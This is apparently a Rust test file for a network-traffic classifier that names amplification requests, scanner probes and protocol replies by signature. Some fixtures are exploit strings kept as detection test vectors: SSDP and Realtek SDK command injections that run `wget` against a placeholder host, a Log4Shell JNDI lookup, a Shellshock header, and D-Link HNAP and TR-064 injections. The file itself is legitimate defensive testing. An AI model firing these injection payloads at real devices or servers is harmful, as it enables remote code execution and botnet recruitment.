//! Payloads and the signatures that name them.

use super::*;

fn udp_name(source_port: u16, destination_port: u16, bytes: &[u8]) -> Option<&'static str> {
    let payload = Payload::new(bytes, source_port, destination_port);
    udp(&payload).map(|signature| signature.name)
}

fn check_request(destination_port: u16, bytes: &[u8], name: &str) {
    assert_eq!(
        udp_name(40000, destination_port, bytes),
        Some(name),
        "to {destination_port}: {bytes:02x?}"
    );
}

fn check_reply(source_port: u16, bytes: &[u8], name: &str) {
    assert_eq!(
        udp_name(source_port, 40000, bytes),
        Some(name),
        "from {source_port}: {bytes:02x?}"
    );
}

fn padded(start: &[u8], length: usize) -> Vec<u8> {
    let mut bytes = start.to_vec();
    bytes.resize(length, 0);
    bytes
}

const SNMP_GET_BULK: &[u8] = &[
    0x30, 0x26, 2, 1, 1, 4, 6, b'p', b'u', b'b', b'l', b'i', b'c', 0xa5, 0x19, 2, 4, 1, 2, 3, 4, 2,
    1, 0, 2, 1, 10, 0x30, 0x0b, 0x30, 9, 6, 5, 0x2b, 6, 1, 2, 1, 5, 0,
];

#[test]
fn amplifier_requests_are_named() {
    let dns = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x03isc\x03org\0\0\xff\0\x01";
    check_request(53, dns, "dns-query");
    check_request(5353, dns, "mdns-query");
    check_request(123, &[0x17, 0, 3, 0x2a, 0, 0, 0, 0], "ntp-monlist");
    check_request(123, &[0x17, 0, 3, 0x10, 0, 0, 0, 0], "ntp-private");
    check_request(123, &[0x16, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0], "ntp-readvar");
    check_request(123, &padded(&[0xe3], 48), "ntp-client");
    check_request(
        1900,
        b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n",
        "ssdp-search",
    );
    check_request(161, SNMP_GET_BULK, "snmp-getbulk");
    check_request(
        389,
        &[0x30, 0x25, 2, 1, 1, 0x63, 0x20, 4, 0],
        "cldap-search",
    );
    check_request(11211, b"\0\x01\0\0\0\x01\0\0stats\r\n", "memcached");
    check_request(19, b"\n", "chargen");
    check_request(17, b"\n", "qotd");
    check_request(
        3702,
        b"<?xml version=\"1.0\"?><e:Envelope><d:Probe/></e:Envelope>",
        "ws-discovery",
    );
    check_request(5683, b"\x40\x01\x7d\x70\xbb.well-known\x04core", "coap-get");
    check_request(
        3478,
        &padded(&[0, 1, 0, 0, 0x21, 0x12, 0xa4, 0x42], 20),
        "stun-binding",
    );
    check_request(3283, &[0, 0x14, 0, 1, 3], "apple-remote-desktop");
    check_request(3283, &[0, 0x14, 0, 0], "apple-remote-desktop");
    check_request(69, b"\0\x01a\0octet\0", "tftp-read");
    check_request(50000, &padded(&[0x41, 0, 9, 9], 20), "bittorrent-utp");
    check_request(1434, &[2], "mssql-browser");
    check_request(
        3389,
        &padded(&[0xff, 0xff, 0xff, 0xff, 0, 0x40, 0, 1], 1232),
        "rdp-udp-syn",
    );
    check_request(27960, b"\xff\xff\xff\xffgetstatus\n", "quake-status");
    check_request(
        27015,
        b"\xff\xff\xff\xffTSource Engine Query\0",
        "source-query",
    );
    check_request(520, &padded(&[1, 1, 0, 0], 24), "rip-request");
    check_request(1194, &padded(&[0x38], 14), "openvpn-reset");
    let mut rpc = vec![1, 2, 3, 4, 0, 0, 0, 0, 0, 0, 0, 2, 0, 1, 0x86, 0xa0];
    rpc.resize(40, 0);
    check_request(111, &rpc, "portmapper");
    let mut ike = vec![7; 8];
    ike.extend([0; 8]);
    ike.extend([0x21, 0x20, 34, 8, 0, 0, 0, 0, 0, 0, 0, 28]);
    check_request(500, &ike, "ike-init");
    ike.splice(0..0, [0; 4]);
    check_request(4500, &ike, "ike-init-nat");
    let netbios =
        b"\x80\xf0\0\x10\0\x01\0\0\0\0\0\0 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0\0\x21\0\x01";
    check_request(137, netbios, "netbios-name");
    check_request(
        47808,
        &[
            0x81, 0x0a, 0, 0x11, 1, 4, 0, 5, 1, 0x0c, 0x0c, 2, 0x3f, 0xff, 0xff, 0x19, 0x4b,
        ],
        "bacnet",
    );
}

#[test]
fn discoveries_and_probes_of_scanners_are_named() {
    for (port, bytes, name) in [
        (53, &b"\0\0\x10\0\0\0\0\0\0\0\0\0"[..], "dns-status"),
        (
            53,
            b"\x96\x68\x24\0\0\x01\0\x01\0\0\0\0\x01a\0\0\x06\0\x01",
            "dns-notify-or-update",
        ),
        (
            5355,
            b"\xa7\x06\0\0\0\x01\0\0\0\0\0\0\x04wpad\0\0\x01\0\x01",
            "llmnr-query",
        ),
        (
            2362,
            b"DIGI\0\x01\0\x06\xff\xff\xff\xff\xff\xff",
            "digi-discovery",
        ),
        (30718, b"\0\0\0\xf8", "lantronix-setup"),
        (
            48899,
            b"\x03\x66\x14\x71\0\0\0\0\x01\0\0\0",
            "beckhoff-discovery",
        ),
        (64738, b"\0\0\0\0abcdefgh", "mumble-ping"),
        (
            3671,
            b"\x06\x10\x02\x03\0\x0e\x08\x01\0\0\0\0\0\0",
            "knx-search",
        ),
        (8612, b"BJNB\x01\0\0\0\0\x01\0\0\0\0\0\0", "canon-discovery"),
        (13, b"\n", "daytime"),
        (37, b"\n", "time"),
        (
            1812,
            b"\x01\0\0\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
            "radius-request",
        ),
        (626, b"SNQUERY: 127.0.0.1:AAAAAA:xsvr", "serialnumberd"),
        (6481, b"[PROBE] 0000", "service-tag"),
        (
            10080,
            b"Amanda 2.6 REQ HANDLE 000-00000000 SEQ 0\n",
            "amanda",
        ),
        (9987, b"TS3INIT1\0\x65\0\0\x88", "teamspeak"),
        (3784, b"\x01\xe7\xe5\x75\x31\xa3", "ventrilo"),
        (2302, b"\0\x02\xf1\x26\x01\x26", "freelancer"),
        (80, b"\r12345678Q999\0", "gquic-hello"),
        (32414, b"M-SEARCH * HTTP/1.0\r\n\r\n", "ssdp-search"),
        (2123, b"\x40\x01\0\x09\0\0\0\0", "gtp-echo"),
        (5351, b"\0\0", "nat-pmp"),
        (1701, b"\xc8\x02\0\x4c\0\0\0\0\0\0\0\0", "l2tp-control"),
        (1434, b"\x04MSSQLSERVER\0", "mssql-browser"),
        (4672, b"\xe4\x60", "edonkey"),
        (4665, b"\xe3\x96\x01\x02\x03\x04", "edonkey"),
    ] {
        check_request(port, bytes, name);
    }
    check_request(44099, &padded(&[4, 0, 0, 0], 32), "wireguard-transport");
    check_request(2152, &padded(&[0x32, 0xff, 0, 0x58], 96), "gtp-tunnel");
    check_reply(51820, &padded(&[2, 0, 0, 0], 92), "wireguard-response");
    for version in [1, 0x6b33_43cf_u32, 0x1a2a_3a4a, 0xff00_001d] {
        let mut bytes = padded(&[0xc3], 1200);
        bytes[1..5].copy_from_slice(&version.to_be_bytes());
        check_request(443, &bytes, "quic-initial");
    }
    // With HMAC the session's numbers stand behind it; the datagram still ends in no acknowledgement and packet 0.
    let mut openvpn = vec![0x38; 49];
    openvpn.extend([0; 5]);
    check_request(1194, &openvpn, "openvpn-reset");
    assert_eq!(udp_name(40000, 1194, &[0x38; 54]), None);
}

#[test]
fn replies_are_named_and_never_called_requests() {
    check_reply(53, b"\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0", "dns-response");
    check_reply(123, &padded(&[0x24], 48), "ntp-server");
    check_reply(
        123,
        &[0xd7, 0, 3, 0x2a, 0, 1, 0, 72],
        "ntp-private-response",
    );
    check_reply(
        1900,
        b"HTTP/1.1 200 OK\r\nST: upnp:rootdevice\r\n",
        "ssdp-response",
    );
    check_reply(5060, b"SIP/2.0 200 OK\r\n", "sip-status");
    let mut response = SNMP_GET_BULK.to_vec();
    response[13] = 0xa2;
    check_reply(161, &response, "snmp-response");
    check_reply(
        11211,
        b"\0\x01\0\0\0\x02\0\0STAT pid 1\r\n",
        "memcached-response",
    );
    check_reply(
        389,
        &[0x30, 0x84, 0, 0, 0, 9, 2, 1, 1, 0x64, 0x84],
        "cldap-response",
    );
}

#[test]
fn an_exploit_comes_before_the_request_it_hides_in() {
    let injected = b"M-SEARCH * HTTP/1.1\r\nST: uuid:`wget http://x/y`\r\n";
    check_request(1900, injected, "ssdp-command");
    check_request(9034, b"orf;cd /tmp; wget http://x", "realtek-sdk-command");
}

#[test]
fn ports_matter_by_all_their_bits() {
    assert_eq!(
        udp_name(40000, 53 + 256, b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0"),
        None
    );
    assert_eq!(udp_name(40000, 53, b""), None);
}

#[test]
fn requests_in_segments_are_named() {
    for (bytes, name) in [
        (&b"GET / HTTP/1.1\r\n"[..], "http-request"),
        (b"\x16\x03\x01\x00\x80\x01\x00", "tls-client-hello"),
        (b"SSH-2.0-Go\r\n", "ssh-banner"),
        (b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0", "rdp-connect"),
        (b"\x03\0\0\x16\x11\xe0\0\0\0\0\0", "s7-connect"),
        (b"\0\0\0\x45\xffSMBr\0\0\0\0\x18", "smb-negotiate"),
        (b"\x13BitTorrent protocol", "bittorrent-handshake"),
        (b"OPTIONS rtsp://1.2.3.4 RTSP/1.0\r\n", "rtsp-request"),
        (b"GET /?x=${jndi:ldap://a/b} HTTP/1.1\r\n", "log4shell"),
        (
            b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n",
            "huawei-device-upgrade",
        ),
        (
            b"GET / HTTP/1.1\r\nUser-Agent: () { :;}; echo\r\n",
            "shellshock",
        ),
        (
            b"POST /HNAP1/ HTTP/1.1\r\nSOAPAction: http://x/`cd /tmp`\r\n",
            "dlink-hnap",
        ),
        (
            b"POST /UD/act?1 HTTP/1.1\r\n\r\n<NewNTPServer1>`cd /tmp`</NewNTPServer1>",
            "tr-064-command",
        ),
        (
            b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd HTTP/1.0\r\n",
            "netgear-setup",
        ),
        (b"\x10\x0c\0\x04MQTT\x04\x02\0\x3c\0\0", "mqtt-connect"),
        (b"OPTIONS sip:a@b SIP/2.0\r\n", "sip-request"),
    ] {
        let payload = Payload::new(bytes, 1, 2);
        assert_eq!(tcp(&payload).map(|row| row.name), Some(name));
    }
}

/// A datagram of QUIC version 1 with identifiers of these lengths, padded.
fn quic(first: u8, to: u8, from: u8, length: usize) -> Vec<u8> {
    let mut bytes = vec![first, 0, 0, 0, 1, to];
    bytes.resize(6 + usize::from(to), 7);
    bytes.push(from);
    padded(&bytes, length)
}

#[test]
fn what_a_quic_server_sends_is_a_reply() {
    for (first, length, what) in [
        (0xcd, 1252, "Initial"),
        (0xee, 338, "Handshake"),
        (0xf0, 125, "Retry"),
    ] {
        let bytes = quic(first, 0, 4, length);
        assert_eq!(udp_name(443, 42834, &bytes), Some("quic-server"), "{what}");
    }
    check_reply(443, &padded(b"\x0a12345678PRST", 40), "gquic-public-reset");
    check_request(443, &quic(0xcd, 8, 0, 1252), "quic-initial");
    // A Retry whose version is no version of QUIC, or whose identifiers do not fit, is nothing known.
    let mut strange = quic(0xf0, 0, 4, 125);
    strange[4] = 9;
    assert_eq!(udp_name(443, 42834, &strange), None);
    assert_eq!(udp_name(443, 42834, &quic(0xf0, 21, 4, 125)), None);
    assert_eq!(udp_name(443, 42834, &quic(0xf0, 8, 8, 38)), None);
}

#[test]
fn a_quic_retry_is_no_edonkey() {
    // The first bytes of QUIC version 2 and of a Retry, on ports of no service.
    for first in [0xc5, 0xe3, 0xe4, 0xe5, 0xf5] {
        let mut retry = quic(first, 8, 8, 60);
        assert_eq!(udp_name(4433, 42834, &retry), None);
        retry[1..5].copy_from_slice(&0x6b33_43cf_u32.to_be_bytes());
        assert_eq!(udp_name(4433, 42834, &retry), None);
    }
}

#[test]
fn the_second_half_of_a_datagram_on_a_named_port_is_not_its_service() {
    // Part of an NTP answer whose first fragment began with the header of another datagram, from 123 to 137.
    let clock = padded(&[0x1c, 2, 0, 0xfa, 0, 0, 0, 12, 0, 0, 3, 0x4c], 48);
    assert_eq!(udp_name(40000, 137, &clock), None);
    let query = b"\x80\xf0\0\x10\0\x01\0\0\0\0\0\0 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0\0\x21\0\x01";
    check_request(137, query, "netbios-name");
}

#[test]
fn bacnet_is_told_by_its_service_behind_all_addresses() {
    // Who-Is to every network, I-Am to every network, and I-Am with a sender's address.
    let who_is = [0x81, 0x0b, 0, 12, 1, 0x20, 0xff, 0xff, 0, 0xff, 0x10, 8];
    check_request(47808, &who_is, "bacnet");
    let i_am = [
        0x81, 0x0b, 0, 24, 1, 0x20, 0xff, 0xff, 0, 0xff, 0x10, 0, 0xc4, 2, 0, 0, 1, 0x22, 1, 0xe0,
        0x91, 0, 0x21, 15,
    ];
    assert_eq!(
        udp_name(47808, 47808, &i_am),
        Some("bacnet-response"),
        "I-Am"
    );
    let routed = [0x81, 0x0a, 0, 13, 1, 8, 0, 5, 1, 9, 0x50, 1, 12];
    check_reply(47808, &routed, "bacnet-response");
    check_request(47808, &[0x81, 5, 0, 6, 0, 60], "bacnet");
    let network_message = [0x81, 0x0b, 0, 7, 1, 0x80, 0];
    assert_eq!(udp_name(47808, 47808, &network_message), None);
}

#[test]
fn answers_of_servers_over_tcp_are_no_probes() {
    let name = |from, to, bytes: &[u8]| tcp(&Payload::new(bytes, from, to)).map(|row| row.name);
    for (port, bytes) in [
        (22, &b"SSH-2.0-OpenSSH_9.2\r\n"[..]),
        (23, b"\xff\xfd\x18\xff\xfd\x20"),
        (5555, b"CNXN\x01\0\0\x01"),
    ] {
        assert!(name(40000, port, bytes).is_some(), "to {port}");
        assert_eq!(name(port, 40000, bytes), None, "from {port}");
    }
    let smb = |magic, command, flags| {
        let mut bytes = vec![0, 0, 0, 64, magic, b'S', b'M', b'B'];
        bytes.resize(68, 0);
        if magic == 0xfe {
            (bytes[16], bytes[20]) = (command, flags);
        } else {
            (bytes[8], bytes[13]) = (command, flags);
        }
        name(40000, 445, &bytes)
    };
    assert_eq!(smb(0xff, 0x72, 0x18), Some("smb-negotiate"));
    assert_eq!(smb(0xff, 0x72, 0x98), None, "a response");
    assert_eq!(smb(0xff, 0x73, 0x18), None, "a session's setup");
    assert_eq!(smb(0xfe, 0, 0), Some("smb-negotiate"));
    assert_eq!(smb(0xfe, 0, 1), None, "a response");
    assert_eq!(smb(0xfe, 3, 0), None, "a tree's connection");
}

#[test]
fn socks_is_told_from_what_begins_alike() {
    let name = |bytes: &[u8]| tcp(&Payload::new(bytes, 40000, 1080)).map(|row| row.name);
    for bytes in [
        &b"\x05\x01\x00"[..],
        b"\x05\x02\x00\x02",
        b"\x05\x04\x00\x01\x02\x80\x05\x01\x00\x03\x01a\x00\x50",
        b"\x04\x01\x00\x50\xc6\x33\x64\x07\0",
        b"\x04\x01\x00\x50\x00\x00\x00\x01nobody\0example.org\0",
    ] {
        assert_eq!(name(bytes), Some("socks"), "{bytes:02x?}");
    }
    for bytes in [
        &b"\x04\x02\x00\x10\0\0\0\x07\0\0\0\0\0\0\0\0"[..], // OpenFlow, echo request of 16 bytes
        b"\x05\x02\x00",
        b"\x05\x01\x00\x07",
        b"\x05\x01\x33",
    ] {
        assert_ne!(name(bytes), Some("socks"), "{bytes:02x?}");
    }
}

#[test]
fn every_signature_has_a_name_and_a_source() {
    for (rows, kind) in [(&UDP[..], "UDP"), (&TCP[..], "TCP")] {
        for (index, row) in rows.iter().enumerate() {
            assert!(!row.source.is_empty(), "{}", row.name);
            assert!(
                rows[..index].iter().all(|other| other.name != row.name),
                "{kind} {}",
                row.name
            );
        }
    }
}

#[test]
fn what_leaks_from_other_networks_is_named() {
    check_request(4789, &padded(&[8, 0, 0, 0, 0, 0, 0x7b, 0], 64), "vxlan");
    check_request(
        6081,
        &padded(&[0, 0, 0x65, 0x58, 0, 0, 10, 0], 64),
        "geneve",
    );
    check_request(521, &padded(&[2, 1, 0, 0], 24), "ripng");
    check_request(
        547,
        &padded(&[1, 0x4f, 0x90, 0xc5, 0, 8, 0, 2, 0xff, 0xff], 40),
        "dhcpv6",
    );
    check_request(3544, &padded(&[0, 1, 0, 0], 77), "teredo");
    let request = [0x6a, 0x81, 0xf8, 0x30, 0x81, 0xf5, 0xa1, 3, 2, 1, 5, 0xa2];
    check_request(88, &padded(&request, 251), "kerberos-request");
}

#[test]
fn replies_from_ports_of_the_servers_choice_are_named() {
    let answer = b"\x67\xc5\x81\x80\0\x01\0\x02\0\x01\0\x02\x03isc\x03org\0\0\x01\0\x01\xc0\x0c";
    check_reply(21_240, answer, "dns-response-other-port");
    let mut other_class = answer.to_vec();
    other_class[24] = 9;
    assert_eq!(udp_name(21_240, 40_000, &other_class), None);
    check_reply(3445, &padded(&[0, 3, 0, 1], 516), "tftp-data");
}

proptest::proptest! {
    #[test]
    fn no_payload_panics(
        bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..64),
        row in 0..UDP.len(),
        port in proptest::prelude::any::<u16>(),
    ) {
        let pick = |ports: Ports| match ports {
            Ports::Any => (port, port),
            Ports::To(ports) => (port, ports[0]),
            Ports::From(ports) => (ports[0], port),
        };
        let mut bytes = bytes;
        if let (Some(first), Some(&start)) = (bytes.first_mut(), UDP[row].first.first()) {
            *first = start;
        }
        let (source_port, destination_port) = pick(UDP[row].ports);
        let payload = Payload::new(&bytes, source_port, destination_port);
        if !bytes.is_empty() {
            for row in UDP.iter().chain(&TCP) {
                let _ = (row.test)(&payload);
            }
        }
        let _ = (udp(&payload), tcp(&payload));
    }
}
